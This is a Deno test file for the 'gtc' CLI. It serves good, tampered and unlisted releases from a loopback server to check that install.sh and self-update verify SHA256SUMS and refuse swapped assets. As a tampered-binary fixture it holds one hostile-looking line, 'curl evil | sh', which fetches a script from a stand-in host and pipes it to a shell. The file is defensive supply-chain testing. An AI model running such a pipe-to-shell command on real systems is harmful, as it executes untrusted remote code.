/**
 * Installing and updating gtc without a checkout: scripts/install.sh and
 * `gtc self-update` against a loopback server that serves release
 * directories (good, tampered, incomplete), and lib/release's verified
 * replace for a compiled binary.
 *
 * Real compiled binaries cannot be built on the project's machines (no
 * denort runtime, see compile_test.ts), so the served "binaries" are
 * stand-ins: small shell scripts that answer --version. The bundle is real:
 * self-update runs from a real gtc.js and replaces it.
 */
import assert from "node:assert/strict";
import { formatSums, selfUpdate, sha256Hex } from "../../lib/release/mod.ts";
import { denoHttp } from "../../lib/host/http.ts";
import { denoWriteFs } from "../../lib/host/fs_write.ts";
import { bundleInTemp } from "./_bundle.ts";

const root = new URL("../..", import.meta.url).pathname;
const enc = new TextEncoder();

const standIn = (v: string) => enc.encode(`#!/bin/sh\n# stand-in for a compiled gtc\necho ${v}\n`);
const NEW = {
  "gtc-linux-amd64": standIn("0.2.0"),
  "gtc-linux-arm64": standIn("0.2.0-arm64"),
  // A stand-in bundle: what a newer gtc.js would print for --version.
  "gtc.js": enc.encode('console.log("0.2.0");\n'),
};

// release serves the assets with a SHA256SUMS of sums (default: of the assets).
async function release(
  assets: Record<string, Uint8Array>,
  sums: Record<string, Uint8Array> = assets,
): Promise<Record<string, Uint8Array>> {
  const m = new Map<string, string>();
  for (const [k, v] of Object.entries(sums)) m.set(k, await sha256Hex(v));
  return { ...assets, SHA256SUMS: enc.encode(formatSums(m)) };
}

// The server: /<release>/<asset>.
function serve(releases: Record<string, Record<string, Uint8Array>>) {
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (req) => {
    const [, rel, name] = new URL(req.url).pathname.split("/");
    const body = releases[rel]?.[name];
    return body === undefined
      ? new Response("not found", { status: 404 })
      : new Response(body as Uint8Array<ArrayBuffer>);
  });
  return { url: `http://127.0.0.1:${server.addr.port}`, close: () => server.shutdown() };
}

async function releases() {
  const tampered = { ...NEW, "gtc-linux-amd64": standIn("0.2.0; curl evil | sh") };
  tampered["gtc.js"] = enc.encode('console.log("evil");\n');
  const unlisted = await release(NEW, { "gtc.js": NEW["gtc.js"] });
  return serve({
    good: await release(NEW),
    // Assets changed after SHA256SUMS was made (a swapped mirror file).
    tampered: await release(tampered, NEW),
    unlisted,
  });
}

async function run(argv: string[], env: Record<string, string>, cwd?: string) {
  const o = await new Deno.Command(argv[0], {
    args: argv.slice(1),
    env,
    clearEnv: true,
    cwd,
    stdin: "null",
  }).output();
  const dec = new TextDecoder();
  return { code: o.code, stdout: dec.decode(o.stdout), stderr: dec.decode(o.stderr) };
}

const fetcher = ["curl", "wget"].find((p) =>
  ["/usr/bin", "/bin", "/usr/local/bin"].some((d) => {
    try {
      return Deno.statSync(`${d}/${p}`).isFile;
    } catch {
      return false;
    }
  })
);
if (fetcher === undefined) {
  console.log("skipping install.sh tests: neither curl nor wget is installed");
}

const ls = (dir: string) => [...Deno.readDirSync(dir)].map((e) => e.name).sort();

Deno.test({
  name: "install.sh: verified install into a user bin dir, tampered and unlisted assets refused",
  ignore: Deno.build.os !== "linux" || fetcher === undefined,
  async fn() {
    const srv = await releases();
    const tmp = await Deno.makeTempDir({ prefix: "gtc-install-" });
    const OLD = standIn("0.1.0");
    const cases = [
      {
        name: "good release, this machine",
        args: ["--base", `${srv.url}/good`],
        code: 0,
        installed: NEW["gtc-linux-amd64"],
        out: /^installed gtc 0\.2\.0 in .*\/bin\/gtc \(sha256 [0-9a-f]{64}\)\n/,
      },
      {
        name: "good release, --platform linux-arm64 (trailing slash in the URL)",
        args: ["--base", `${srv.url}/good/`, "--platform", "linux-arm64"],
        code: 0,
        installed: NEW["gtc-linux-arm64"],
        out: /^installed gtc 0\.2\.0-arm64 in /,
      },
      {
        name: "tampered asset",
        args: ["--base", `${srv.url}/tampered`],
        code: 1,
        installed: OLD,
        err:
          /^install\.sh: checksum mismatch for http:\/\/127\.0\.0\.1:\d+\/tampered\/gtc-linux-amd64: SHA256SUMS says [0-9a-f]{64}, the download is [0-9a-f]{64}; not installed\n$/,
      },
      {
        name: "asset not in SHA256SUMS",
        args: ["--base", `${srv.url}/unlisted`],
        code: 1,
        installed: OLD,
        err: /^install\.sh: http:.*\/unlisted\/SHA256SUMS does not list gtc-linux-amd64\n$/,
      },
      {
        name: "no such release",
        args: ["--base", `${srv.url}/nothing`],
        code: 1,
        installed: OLD,
        err: /^install\.sh: cannot fetch http:.*\/nothing\/SHA256SUMS\n$/m,
      },
      {
        name: "plain http to another machine",
        args: ["--base", "http://example.com/r"],
        code: 1,
        installed: OLD,
        err: /release URL http:\/\/example\.com\/r: want https/,
      },
      {
        name: "a platform without a binary",
        args: ["--base", `${srv.url}/good`, "--platform", "linux-armv6l"],
        code: 1,
        installed: OLD,
        err: /no gtc binary for linux-armv6l/,
      },
    ];
    try {
      for (const [i, c] of cases.entries()) {
        const bin = `${tmp}/${i}/bin`;
        Deno.mkdirSync(bin, { recursive: true });
        Deno.writeFileSync(`${bin}/gtc`, OLD, { mode: 0o755 });
        const r = await run(["sh", `${root}scripts/install.sh`, "--bin-dir", bin, ...c.args], {
          HOME: `${tmp}/${i}`,
          PATH: "/usr/bin:/bin",
          SHELL: "/bin/zsh",
        });
        assert.equal(r.code, c.code, `${c.name}: ${r.stderr}`);
        assert.deepEqual(Deno.readFileSync(`${bin}/gtc`), c.installed, c.name);
        assert.deepEqual(ls(bin), ["gtc"], `${c.name}: no leftovers`);
        if (c.out) {
          assert.match(r.stdout, c.out, c.name);
          assert.equal(Deno.statSync(`${bin}/gtc`).mode! & 0o777, 0o755);
          assert.ok(r.stdout.includes(`put ${bin} in PATH`), r.stdout);
          assert.ok(r.stdout.endsWith(`in ~/.zshrc: eval "$(gtc hook zsh)"\n`), r.stdout);
        }
        if (c.err) assert.match(r.stderr, c.err, c.name);
      }
    } finally {
      await srv.close();
      await Deno.remove(tmp, { recursive: true });
    }
  },
});

Deno.test("self-update of a compiled binary (stand-in): replaced atomically, tampered refused", async (t) => {
  const srv = await releases();
  const tmp = await Deno.makeTempDir({ prefix: "gtc-selfupdate-" });
  const OLD = standIn("0.1.0");
  const update = (base: string, target: string, windows = false) =>
    selfUpdate(
      { http: denoHttp, fs: denoWriteFs, windows, tmpSuffix: "test" },
      { base: `${srv.url}/${base}`, asset: "gtc-linux-amd64", target },
    );
  try {
    await t.step("good: replaced, then already up to date", async () => {
      const target = `${tmp}/gtc`;
      Deno.writeFileSync(target, OLD, { mode: 0o755 });
      const r = await update("good", target);
      assert.equal(r.upToDate, false);
      assert.deepEqual(Deno.readFileSync(target), NEW["gtc-linux-amd64"]);
      assert.equal(Deno.statSync(target).mode! & 0o777, 0o755);
      assert.equal(r.sha256, await sha256Hex(NEW["gtc-linux-amd64"]));
      assert.equal((await update("good", target)).upToDate, true);
      assert.deepEqual(ls(tmp), ["gtc"]);
    });
    await t.step("tampered and unlisted: refused, the old file untouched", async () => {
      const target = `${tmp}/gtc`;
      Deno.writeFileSync(target, OLD, { mode: 0o755 });
      await assert.rejects(update("tampered", target), /checksum mismatch for .*; not installed/);
      await assert.rejects(update("unlisted", target), /SHA256SUMS does not list gtc-linux-amd64/);
      assert.deepEqual(Deno.readFileSync(target), OLD);
      assert.deepEqual(ls(tmp), ["gtc"]);
    });
    await t.step("Windows style: the running file is moved to .old first", async () => {
      const target = `${tmp}/gtc`;
      Deno.writeFileSync(target, OLD, { mode: 0o755 });
      await update("good", target, true);
      assert.deepEqual(Deno.readFileSync(target), NEW["gtc-linux-amd64"]);
      assert.deepEqual(Deno.readFileSync(`${target}.old`), OLD);
    });
  } finally {
    await srv.close();
    await Deno.remove(tmp, { recursive: true });
  }
});

Deno.test("gtc self-update from the real bundle; a source checkout refuses", async (t) => {
  const srv = await releases();
  const file = await bundleInTemp();
  const dir = file.slice(0, file.lastIndexOf("/"));
  // HOME elsewhere: deno keeps its caches there, and dir must hold gtc.js alone.
  const home = await Deno.makeTempDir({ prefix: "gtc-selfupdate-home-" });
  const env = { PATH: "/usr/bin:/bin", HOME: home, NO_COLOR: "1" };
  const gtc = (...args: string[]) =>
    run([Deno.execPath(), "run", "-A", "--no-config", file, "self-update", ...args], env, dir);
  const original = Deno.readFileSync(file);
  try {
    await t.step("no URL: a usage error", async () => {
      const r = await gtc();
      assert.equal(r.code, 2);
      assert.match(r.stderr, /no release URL: pass --base URL or set GTC_RELEASE_URL/);
    });
    await t.step("--dry-run says what it would do and does nothing", async () => {
      const r = await gtc("--base", `${srv.url}/good`, "--dry-run");
      assert.equal(r.code, 0, r.stderr);
      assert.equal(
        r.stdout,
        `gtc self-update: would fetch gtc.js from ${srv.url}/good, check it against SHA256SUMS ` +
          `and replace ${file}\n`,
      );
      assert.deepEqual(Deno.readFileSync(file), original);
    });
    await t.step("tampered: refused, the bundle untouched", async () => {
      const r = await gtc("--base", `${srv.url}/tampered`);
      assert.equal(r.code, 1);
      assert.match(
        r.stderr,
        /^gtc: checksum mismatch for .*\/tampered\/gtc\.js: .*; not installed\n$/,
      );
      assert.deepEqual(Deno.readFileSync(file), original);
      assert.deepEqual(ls(dir), ["gtc.js"]);
    });
    await t.step("good: the bundle is replaced by the release's gtc.js", async () => {
      const r = await gtc("--base", `${srv.url}/good`);
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, new RegExp(`^gtc self-update: replaced ${file} with `));
      assert.deepEqual(Deno.readFileSync(file), NEW["gtc.js"]);
      assert.deepEqual(ls(dir), ["gtc.js"]);
      const v = await run([Deno.execPath(), "run", "-A", "--no-config", file], env, dir);
      assert.equal(v.stdout, "0.2.0\n");
    });
    await t.step("a source checkout refuses and names the way to update it", async () => {
      const r = await run(
        [Deno.execPath(), "run", "-A", `${root}cli/main.ts`, "self-update", "--base", srv.url],
        { ...env, DENO_DIR: Deno.env.get("DENO_DIR") ?? `${Deno.env.get("HOME")}/.cache/deno` },
        root,
      );
      assert.equal(r.code, 1);
      assert.match(
        r.stderr,
        /this gtc runs from a source checkout \(.*cli\/main\.ts\): update it with git/,
      );
    });
  } finally {
    await srv.close();
    await Deno.remove(dir, { recursive: true });
    await Deno.remove(home, { recursive: true });
  }
});
